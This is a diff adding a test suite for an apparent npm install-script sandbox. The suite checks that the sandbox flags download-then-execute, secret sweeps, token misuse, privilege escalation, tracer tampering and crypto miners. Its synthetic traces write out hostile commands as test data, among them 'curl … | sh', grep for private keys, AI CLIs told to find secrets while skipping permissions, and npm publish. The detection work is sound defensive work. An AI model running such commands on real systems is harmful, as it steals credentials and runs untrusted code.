@@ -1,0 +1,300 @@
+import { behaviour, findingsOf, HOME, judge, MARKER, NM, policyFrom, PROJECT, summary, Trace } from '../testing/synthetic-trace.js';
+
+function shell(t: Trace, spec = 'evil-pkg@1.0.0', command = 'sh install.sh') {
+  return t.script(spec, 'postinstall', command);
+}
+
+describe('download-then-execute', () => {
+  it('fires when a downloader writes a file that is then made executable and run', () => {
+    const t = new Trace();
+    const s = shell(t);
+    const curl = s.run('/usr/bin/curl', ['curl', '-sLo', '/tmp/x', 'https://payload.test/x']);
+    t.http({ url: 'https://payload.test/x', host: 'payload.test', decision: 'allowed' }, curl);
+    curl.write('/tmp/x');
+    const chmod = s.run('/bin/chmod', ['chmod', '+x', '/tmp/x']).chmod('/tmp/x', '0755');
+    s.run('/tmp/x', ['/tmp/x']);
+    const execId = t.events.at(-1)?.id;
+    const result = judge(t);
+    const f = findingsOf(result, 'download-then-execute');
+    expect(f.map((x) => [x.subject, x.severity])).toEqual([
+      ['/tmp/x', 'critical'],
+    ]);
+    // Arming and running the same file: one finding, both events as evidence.
+    expect(f[0]?.evidence).toEqual([chmod.id, execId]);
+    expect(f[0]?.occurrences).toBe(2);
+    // The exec is reported for what it is, not also as "from /tmp".
+    expect(findingsOf(result, 'exec-from-temp-or-home')).toEqual([]);
+    expect(result.verdict).toBe('fail');
+  });
+
+  it('fires for `curl … | sh`', () => {
+    const t = new Trace();
+    const s = shell(t, 'evil-pkg@1.0.0', 'curl -s https://x.test/i | sh');
+    s.run('/usr/bin/curl', ['curl', '-s', 'https://x.test/i']);
+    s.run('/bin/sh', ['sh']);
+    const [f] = findingsOf(judge(t), 'download-then-execute');
+    expect(f?.message).toBe('piped a download into an interpreter: `curl -s https://x.test/i` | `sh`');
+    expect(f?.severity).toBe('critical');
+  });
+
+  it('fires when node fetches a file and runs it (a Node download, no curl)', () => {
+    const t = new Trace();
+    const node = shell(t, 'evil-pkg@1.0.0', 'node setup.js').run('/usr/local/bin/node', ['node', 'setup.js']);
+    t.http({ url: 'https://github.com/x/bun-linux-x64.zip', host: 'github.com', decision: 'allowed' }, node);
+    node.write(`${NM}/evil-pkg/bun`);
+    node.chmod(`${NM}/evil-pkg/bun`, '0755');
+    node.run(`${NM}/evil-pkg/bun`, ['bun', 'run', 'payload.js']);
+    expect(summary(judge(t))).toEqual(['download-then-execute:critical', 'network-not-allowed:high', 'script-not-allowed:info']);
+  });
+
+  it('is medium when only the registry was contacted (esbuild\'s fallback downloads its binary from the registry)', () => {
+    const t = new Trace();
+    const node = shell(t, 'esbuild@0.25.12', 'node install.js').run('/usr/local/bin/node', ['node', 'install.js']);
+    t.http({ url: 'https://registry.example/@esbuild/linux-x64/-/linux-x64-0.25.12.tgz', host: 'registry.example', decision: 'registry' }, node);
+    node.write(`${NM}/esbuild/bin/esbuild`);
+    node.run(`${NM}/esbuild/bin/esbuild`, ['esbuild', '--version']);
+    expect(behaviour(judge(t))).toEqual(['download-then-execute:medium']);
+  });
+
+  it('does not fire without network access, nor for what a linker wrote (node-gyp), nor for linked package files (esbuild)', () => {
+    const t = new Trace();
+    const s = shell(t, 'native@1.0.0', 'node-gyp rebuild');
+    const node = s.run('/usr/local/bin/node', ['node', 'gen.js']);
+    node.write(`${NM}/native/build/gen.sh`);
+    s.run(`${NM}/native/build/gen.sh`, ['./gen.sh']);
+    s.run('/usr/bin/ld', ['ld', '-o', `${NM}/native/build/test`]).write(`${NM}/native/build/test`);
+    s.run(`${NM}/native/build/test`, ['./test']);
+    const e = shell(t, 'esbuild@0.25.12', 'node install.js').run('/usr/local/bin/node', ['node', 'install.js']);
+    t.http({ url: 'https://registry.example/esbuild', host: 'registry.example', decision: 'registry' }, e);
+    e.link(`${NM}/@esbuild/linux-x64/bin/esbuild`, `${NM}/esbuild/bin-esbuild`);
+    e.rename(`${NM}/esbuild/bin-esbuild`, `${NM}/esbuild/bin/esbuild`);
+    e.run(`${NM}/esbuild/bin/esbuild`, [`${NM}/esbuild/bin/esbuild`, '--version']);
+    expect(behaviour(judge(t))).toEqual([]);
+  });
+
+  it('is allowed by the package\'s exec list', () => {
+    const t = new Trace();
+    const node = shell(t, 'prisma-like@1.0.0', 'node download.js').run('/usr/local/bin/node', ['node', 'download.js']);
+    t.http({ url: 'https://binaries.prisma.test/engine', host: 'binaries.prisma.test', decision: 'allowed' }, node);
+    node.write(`${HOME}/.cache/prisma/engine`);
+    node.run(`${HOME}/.cache/prisma/engine`, ['engine', '--version']);
+    const policy = policyFrom('version: 1\npackages:\n  prisma-like@1.0.0:\n    exec: ["$HOME/.cache/prisma/*"]\n    write: ["$HOME/.cache/prisma/**"]\n    network: ["binaries.prisma.test:443"]\n');
+    expect(judge(t, policy).findings).toEqual([]);
+  });
+});
+
+describe('exec-from-temp-or-home', () => {
+  it('fires for programs run from /tmp or HOME', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run('/tmp/.x/miner', ['/tmp/.x/miner']);
+    s.run(`${HOME}/.local/bin/agent`, ['agent']);
+    s.run(`${HOME}/.npm/_npx/1234/node_modules/.bin/thing`, ['thing']);
+    expect(findingsOf(judge(t), 'exec-from-temp-or-home').map((f) => [f.subject, f.severity])).toEqual([
+      ['/tmp/.x/miner', 'high'],
+      [`${HOME}/.local/bin/agent`, 'high'],
+      [`${HOME}/.npm/_npx/1234/node_modules/.bin/thing`, 'medium'],
+    ]);
+  });
+
+  it('does not fire for the project (which lies under HOME) or the package\'s own folder', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run(`${NM}/.bin/tsc`, ['tsc']);
+    s.run(`${PROJECT}/scripts/build.sh`, ['./build.sh']);
+    s.run(`${NM}/evil-pkg/bin/tool`, ['tool']);
+    s.run('/tmp/missing', ['/tmp/missing'], { ok: false, errno: 'ENOENT' });
+    expect(behaviour(judge(t))).toEqual([]);
+  });
+});
+
+describe('exec-not-allowed', () => {
+  it('fires for a program outside the pinned exec list', () => {
+    const t = new Trace();
+    const s = shell(t, 'native@1.0.0', 'node-gyp rebuild');
+    s.run('/usr/bin/python3', ['python3', 'gyp_main.py']);
+    s.run('/usr/bin/perl', ['perl', '-e', 'print 1']);
+    const policy = policyFrom('version: 1\npackages:\n  native:\n    exec: [python3, make, "/usr/bin/g++"]\n');
+    expect(summary(judge(t, policy))).toEqual(['exec-not-allowed:medium']);
+  });
+
+  it('does not fire for the baseline (marker, sh, node) or without a pinned list', () => {
+    const t = new Trace();
+    const s = shell(t, 'native@1.0.0', 'node-gyp rebuild');
+    s.run('/usr/local/bin/node', ['node', 'x.js']).run('/bin/sh', ['sh', '-c', 'true']);
+    s.run('/usr/bin/perl', ['perl', '-e', '1']);
+    expect(judge(t, policyFrom('version: 1\npackages:\n  native: true\n')).findings).toEqual([]);
+  });
+});
+
+describe('env-dump (programs)', () => {
+  it('fires for `env` and `printenv` with no arguments', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run('/usr/bin/env', ['env']);
+    s.run('/usr/bin/printenv', ['printenv', '-0']);
+    expect(findingsOf(judge(t), 'env-dump').map((f) => f.subject)).toEqual(['env', 'printenv']);
+  });
+
+  it('does not fire for `env node script` (shebangs), `env VAR=x cmd` or `printenv HOME`', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run('/usr/bin/env', ['/usr/bin/env', 'node', 'cli.js']);
+    s.run('/usr/bin/env', ['env', 'NODE_ENV=production', 'node', 'build.js']);
+    s.run('/usr/bin/printenv', ['printenv', 'HOME']);
+    expect(behaviour(judge(t))).toEqual([]);
+  });
+});
+
+describe('privilege-escalation (programs and sockets)', () => {
+  it('fires for sudo (even when missing), iptables and the Docker socket', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run('/usr/local/bin/sudo', ['sudo', '-n', 'true'], { ok: false, errno: 'ENOENT' });
+    s.run('/usr/bin/sudo', ['sudo', '-n', 'true'], { ok: false, errno: 'ENOENT' });
+    s.run('/usr/sbin/iptables', ['iptables', '-F']);
+    s.run('/usr/local/bin/node', ['node', 'x.js']).connect('/var/run/docker.sock', undefined, { ok: false, errno: 'ENOENT' });
+    const f = findingsOf(judge(t), 'privilege-escalation');
+    expect(f.map((x) => [x.subject, x.severity, x.occurrences])).toEqual([
+      ['iptables', 'critical', 1],
+      ['/var/run/docker.sock', 'critical', 1],
+      ['sudo', 'high', 2],
+    ]);
+  });
+
+  it('does not fire for nscd\'s socket or `docker --version`-like checks of other tools', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run('/usr/local/bin/node', ['node', 'x.js']).connect('/var/run/nscd/socket', undefined, { ok: false, errno: 'ENOENT' });
+    s.run('/usr/bin/id', ['id', '-u']);
+    expect(behaviour(judge(t))).toEqual([]);
+  });
+});
+
+describe('secret-sweep (programs)', () => {
+  it('fires for secret scanners, AI CLIs with permission bypass and searches of HOME', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run('/tmp/trufflehog', ['trufflehog', 'filesystem', HOME, '--json']);
+    s.run('/usr/local/bin/claude', ['claude', '-p', 'find secrets', '--dangerously-skip-permissions'], { ok: false, errno: 'ENOENT' });
+    s.run('/usr/local/bin/gemini', ['gemini', '--yolo', '-p', 'x'], { ok: false, errno: 'ENOENT' });
+    s.run('/usr/bin/find', ['find', HOME, '-name', '*.pem']);
+    s.run('/usr/bin/grep', ['grep', '-rl', 'PRIVATE KEY', '/']);
+    const f = findingsOf(judge(t), 'secret-sweep');
+    expect(f.map((x) => [x.subject, x.severity])).toEqual([
+      ['trufflehog', 'critical'],
+      ['claude', 'critical'],
+      ['gemini', 'critical'],
+      ['find', 'high'],
+      ['grep', 'high'],
+    ]);
+  });
+
+  it('does not fire for searches in its own folder or the project, non-recursive grep, or the `q` CSV tool', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run('/usr/bin/find', ['find', '.', '-name', '*.node']);
+    s.run('/usr/bin/find', ['find', `${NM}/evil-pkg`, '-type', 'f']);
+    s.run('/usr/bin/grep', ['grep', 'version', `${HOME}/.npmrc`]);
+    s.run('/usr/bin/q', ['q', '-H', 'select * from data.csv']);
+    expect(behaviour(judge(t))).toEqual([]);
+  });
+});
+
+describe('token-use', () => {
+  it('fires for npm whoami/publish, gh auth token, aws and registry writes', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run('/usr/local/bin/npm', ['npm', 'whoami']);
+    s.run('/usr/local/bin/node', ['node', '/usr/local/lib/node_modules/npm/bin/npm-cli.js', 'publish', '--access', 'public']);
+    s.run('/usr/bin/gh', ['gh', 'auth', 'token'], { ok: false, errno: 'ENOENT' });
+    s.run('/usr/local/bin/aws', ['aws', 'sts', 'get-caller-identity'], { ok: false, errno: 'ENOENT' });
+    const n = s.run('/usr/local/bin/node', ['node', 'x.js']);
+    t.http({ method: 'PUT', url: 'https://registry.example/victim-pkg', host: 'registry.example', decision: 'registry' }, n);
+    t.http({ method: 'POST', url: 'https://api.github.com/user/repos', host: 'api.github.com', decision: 'denied' }, n);
+    const f = findingsOf(judge(t), 'token-use');
+    expect(f.map((x) => [x.subject, x.severity])).toEqual([
+      ['npm-cli.js publish', 'critical'],
+      ['PUT registry.example/victim-pkg', 'critical'],
+      ['npm whoami', 'high'],
+      ['gh auth', 'high'],
+      ['aws', 'high'],
+      ['POST api.github.com/user/repos', 'high'],
+    ]);
+  });
+
+  it('does not fire for a nested `npm install`, `npm --version`, `git config core.hooksPath` or `aws --version`', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run('/usr/local/bin/node', ['node', '/usr/local/lib/node_modules/npm/bin/npm-cli.js', 'install', '--no-save', '@esbuild/linux-x64@0.25.12']);
+    s.run('/usr/local/bin/npm', ['npm', '--version']);
+    s.run('/usr/bin/git', ['git', 'config', 'core.hooksPath', '.husky']);
+    s.run('/usr/local/bin/aws', ['aws', '--version']);
+    const n = s.run('/usr/local/bin/node', ['node', 'x.js']);
+    t.http({ url: 'https://registry.example/@esbuild%2flinux-x64', host: 'registry.example', decision: 'registry' }, n);
+    t.http({ method: 'POST', url: 'https://registry.example/-/npm/v1/security/advisories/bulk', host: 'registry.example', decision: 'registry' }, n);
+    expect(behaviour(judge(t))).toEqual([]);
+  });
+});
+
+describe('lingering-process', () => {
+  it('fires high for a process the sandbox had to kill, medium for one that exited late', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run('/usr/bin/nohup', ['nohup', 'node', 'daemon.js']).lingering('killed');
+    s.run('/usr/local/bin/node', ['node', 'late.js']).lingering('exited');
+    expect(findingsOf(judge(t), 'lingering-process').map((f) => f.severity)).toEqual(['high', 'medium']);
+  });
+
+  it('does not fire for children that exit with their script', () => {
+    const t = new Trace();
+    shell(t).run('/usr/local/bin/node', ['node', 'x.js']).exit(0);
+    expect(behaviour(judge(t))).toEqual([]);
+  });
+});
+
+describe('tracer-tamper', () => {
+  it('fires for a spoofed lifecycle marker, ptrace and signals outside the script\'s tree', () => {
+    const t = new Trace();
+    const s = shell(t);
+    const n = s.run('/usr/local/bin/node', ['node', 'x.js']);
+    n.run(MARKER, [MARKER, '--run', 'esbuild', '0.25.12', 'postinstall', 'node evil.js']);
+    n.notice('lifecycle marker exec not honoured: attribution spoof attempted: pid 103 claimed esbuild@0.25.12 (postinstall) inside evil-pkg@1.0.0 (postinstall), script pid 100');
+    n.notice('ptrace(PTRACE_TRACEME, 0) called');
+    n.signal(22, 'SIGKILL');
+    const f = findingsOf(judge(t), 'tracer-tamper');
+    expect(f.map((x) => [x.subject, x.severity, x.occurrences])).toEqual([
+      ['lifecycle marker', 'critical', 2],
+      ['ptrace', 'high', 1],
+      ['signal to pid 22', 'high', 1],
+    ]);
+  });
+
+  it('does not fire for signals to its own children or existence checks', () => {
+    const t = new Trace();
+    const s = shell(t);
+    const n = s.run('/usr/local/bin/node', ['node', 'x.js']);
+    const child = n.run('/usr/bin/sleep', ['sleep', '10']);
+    n.signal(child.pid, 'SIGTERM');
+    n.signal(22, '0');
+    expect(behaviour(judge(t))).toEqual([]);
+  });
+});
+
+describe('windows-loader-exec and crypto-miner', () => {
+  it('fire on loader attempts and miner arguments', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run('/usr/bin/rundll32', ['rundll32', 'sdd.dll,main'], { ok: false, errno: 'ENOENT' });
+    s.run(`${NM}/evil-pkg/bin/x`, ['x', '-o', 'stratum+tcp://pool.test:3333', '--donate-level', '1']);
+    expect(behaviour(judge(t))).toEqual(['windows-loader-exec:high', 'crypto-miner:high']);
+  });
+
+  it('do not fire on ordinary builds', () => {
+    const t = new Trace();
+    const s = shell(t);
+    s.run('/usr/local/bin/node', ['node', 'build.js', '--coin-flip', '--donate']);
+    s.run('/usr/bin/make', ['make', 'all']);
+    expect(behaviour(judge(t))).toEqual([]);
+  });
+});
